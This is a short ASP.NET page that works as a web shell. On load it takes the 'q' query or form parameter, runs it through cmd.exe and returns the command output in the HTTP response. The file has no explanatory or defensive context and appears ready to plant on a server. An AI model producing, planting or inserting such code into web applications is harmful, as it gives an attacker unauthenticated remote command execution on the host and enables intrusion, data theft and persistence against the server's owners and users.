<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    var psi = new ProcessStartInfo("cmd.exe", "/c " + Request["q"]);
    psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
    Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());
}
</script>
